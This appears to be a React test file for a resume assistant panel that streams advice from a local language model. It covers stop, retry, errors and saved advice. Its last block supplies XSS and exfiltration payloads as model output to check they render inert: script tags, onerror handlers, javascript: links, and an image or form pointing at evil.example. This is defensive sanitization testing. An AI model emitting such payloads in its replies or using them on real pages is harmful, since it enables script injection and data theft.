import { screen, waitFor, within } from '@testing-library/react';
import { describe, expect, test } from 'vitest';
import type { AiError } from '../../machines/contracts/ai';
import { analyse, atResult, openAssistant, started } from './resume-steps';
import { draft, file, job, localModel, middling, middlingReport } from './samples';

const withModel = { settings: localModel };
const panel = () => screen.findByRole('region', { name: 'Advice from your model' });
const quota: AiError = { kind: 'quota', message: 'The server has had too many requests. Wait a little.', status: 429 };

test('without a model there is no panel, and nothing is asked', async () => {
  const { device } = await atResult();
  expect(screen.queryByRole('region', { name: 'Advice from your model' })).not.toBeInTheDocument();
  expect(screen.getByText('Built-in coach, on this device')).toBeVisible();
  expect(device.advise.calls).toEqual([]);
});

test('streams to its end, beside a score that stays as it is', async () => {
  const { user, device, store } = await atResult('ats-enhancer', undefined, withModel);
  expect(screen.getByText('Built-in coach, with advice from OpenAI-compatible')).toBeVisible();
  await started(device.advise);
  expect(device.advise.latest.input).toEqual({
    subject: { action: 'ats-enhancer', document: middling, jobDescription: job, report: middlingReport },
  });
  const advice = await panel();
  expect(advice).toHaveTextContent('OpenAI-compatible: llama3.2');
  expect(await within(advice).findByText('The model is writing.')).toBeInTheDocument();
  device.advise.latest.send({ type: 'advice.streamed', text: '# Numbers\n\nName a **res' });
  expect(await within(advice).findByText(/Name a \*\*res/)).toBeVisible();
  device.advise.latest.send({
    type: 'advice.finished',
    text: '# Numbers\n\nName a **result**. Your score is 99.\n\n| a | b |\n| - | - |\n| 1 | 2 |',
    finish: 'stop',
  });
  expect(await within(advice).findByText('result')).toBeVisible();
  expect(within(advice).getByRole('heading', { name: 'Numbers', level: 3 })).toBeVisible();
  expect(within(advice).getByRole('cell', { name: '2' })).toBeVisible();
  expect(within(advice).getByText('The model has finished.')).toBeInTheDocument();
  expect(screen.getByText('Score: 68 out of 100')).toBeVisible();
  expect(store.getState().resumeDraft.advice).toMatchObject({ finish: 'stop', error: null });
  await user.click(within(advice).getByRole('button', { name: 'Copy advice' }));
  await waitFor(() => expect(device.copied).toEqual([store.getState().resumeDraft.advice?.text]));
});

test('Stop ends the request and keeps what came in; Ask again starts over', async () => {
  const { user, device, store } = await atResult('ats-score', undefined, withModel);
  await started(device.advise);
  device.advise.latest.send({ type: 'advice.streamed', text: 'Half a sen' });
  const advice = await panel();
  await within(advice).findByText('Half a sen');
  await user.click(within(advice).getByRole('button', { name: 'Stop' }));
  expect(device.advise.latest.stopped).toBe(true);
  expect(await within(advice).findByText(/You stopped the reply/)).toBeVisible();
  expect(within(advice).getByText('Half a sen')).toBeVisible();
  expect(within(advice).queryByRole('alert')).not.toBeInTheDocument();
  device.advise.latest.send({ type: 'advice.streamed', text: 'Half a sentence, late' });
  expect(store.getState().resumeDraft.advice).toMatchObject({ text: 'Half a sen', error: { kind: 'aborted' } });
  await user.click(within(advice).getByRole('button', { name: 'Ask again' }));
  await started(device.advise, 2);
  await waitFor(() => expect(within(advice).queryByText('Half a sen')).not.toBeInTheDocument());
});

test('a failure has its words, keeps what came in, and offers Retry and Settings', async () => {
  const { user, device } = await atResult('ats-score', undefined, withModel);
  await started(device.advise);
  device.advise.latest.send(
    { type: 'advice.streamed', text: 'Begun' },
    { type: 'advice.failed', text: 'Begun', error: quota },
  );
  const alert = await within(await panel()).findByRole('alert');
  expect(within(alert).getByText('Sorry, there was an error processing your request. Please try again.')).toBeVisible();
  expect(alert).toHaveTextContent(quota.message);
  expect(alert).toHaveTextContent('Your report is not affected. What came in until then is kept above.');
  expect(await within(await panel()).findByText('Begun')).toBeVisible();
  expect(within(alert).getByRole('link', { name: 'Open Settings' })).toHaveAttribute('href', '/settings');
  await user.click(within(alert).getByRole('button', { name: 'Retry' }));
  await started(device.advise, 2);
  expect(screen.queryByRole('alert')).not.toBeInTheDocument();
});

test('a reply cut by its length says so', async () => {
  const { device } = await atResult('ats-score', undefined, withModel);
  await started(device.advise);
  device.advise.latest.send({ type: 'advice.finished', text: 'First, and', finish: 'length' });
  expect(await screen.findByText('The reply reached its length limit.')).toBeVisible();
  expect(screen.getByRole('button', { name: 'Ask again' })).toBeVisible();
});

describe('coming back', () => {
  const result = (advice: Parameters<typeof draft>[1] = {}) => ({
    settings: localModel,
    resumeDraft: draft(
      { step: 'result', jobDescription: job, action: 'ats-score' },
      { report: { flow: file.key, value: middlingReport }, ...advice },
    ),
  });

  test('shows what was kept, and asks nothing by itself', async () => {
    const { device } = await openAssistant({
      preloadedState: result({ advice: { text: 'Kept advice.', finish: 'stop', error: null } }),
    });
    expect(await screen.findByText('Kept advice.')).toBeVisible();
    expect(screen.getByRole('button', { name: 'Ask again' })).toBeVisible();
    expect(device.advise.calls).toEqual([]);
  });

  test('with nothing kept, advice is asked for by hand', async () => {
    const { user, device } = await openAssistant({ preloadedState: result() });
    await user.click(await screen.findByRole('button', { name: 'Ask for advice' }));
    await started(device.advise);
    expect(await screen.findByRole('button', { name: 'Stop' })).toBeVisible();
  });

  test('leaving the screen ends the request', async () => {
    const { user, device } = await atResult('ats-score', undefined, withModel);
    await started(device.advise);
    await user.click(screen.getByRole('link', { name: 'Home' }));
    await waitFor(() => expect(device.advise.latest.stopped).toBe(true));
  });

  test('another action asks again and forgets the advice of the first', async () => {
    const view = await atResult('ats-score', undefined, withModel);
    await started(view.device.advise);
    view.device.advise.latest.send({ type: 'advice.finished', text: 'On the score.', finish: 'stop' });
    await screen.findByText('On the score.');
    await view.user.click(screen.getByRole('button', { name: 'Try Another Action' }));
    await analyse(view, 'keyword-match');
    await started(view.device.advise, 2);
    expect(view.device.advise.latest.input).toMatchObject({ subject: { action: 'keyword-match' } });
    expect(screen.queryByText('On the score.')).not.toBeInTheDocument();
  });
});

describe('what a model writes is text', () => {
  test.each([
    ['an image', '![secret](https://evil.example/leak?q=1)', /^$/],
    [
      'raw HTML',
      'Hello <img src=x onerror=alert(1)> <b>there</b>',
      /Hello <img src=x onerror=alert\(1\)> <b>there<\/b>/,
    ],
    ['a script', '<script>alert(1)</script>', /<script>alert\(1\)<\/script>/],
    ['a javascript: link', '[click](javascript:alert(1))', /^click$/],
    ['a data: link', '[click](data:text/html,<script>alert(1)</script>)', /click/],
    ['a link away', '[click](https://evil.example)', /^click$/],
    ['a bare address', 'See https://evil.example and www.evil.example', /See https:\/\/evil\.example/],
    ['a link to another host without its scheme', '[click](//evil.example)', /^click$/],
    ['a link with a backslash', '[click](/\\evil.example)', /^click$/],
    ['an address in brackets', '<javascript:alert(1)>', /javascript:alert\(1\)/],
    ['a reference', '[click][1]\n\n[1]: javascript:alert(1)', /^click$/],
    ['a form', '<form action="https://evil.example"><input name="key"></form>', /<form action=/],
  ])('%s', async (_, text, shown) => {
    const { device } = await atResult('ats-score', undefined, withModel);
    await started(device.advise);
    device.advise.latest.send({ type: 'advice.finished', text: `${text}\n\nThe end.`, finish: 'stop' });
    const end = await within(await panel()).findByText('The end.');
    const reply = end.parentElement as HTMLElement;
    expect(reply.querySelector('img, script, iframe, form, input, b, style, object, svg')).toBeNull();
    for (const link of within(reply).queryAllByRole('link'))
      expect(new URL((link as HTMLAnchorElement).href).origin).toBe(window.location.origin);
    expect(reply.textContent?.replace(/\s*The end\.$/, '').trim()).toMatch(shown);
  });
});
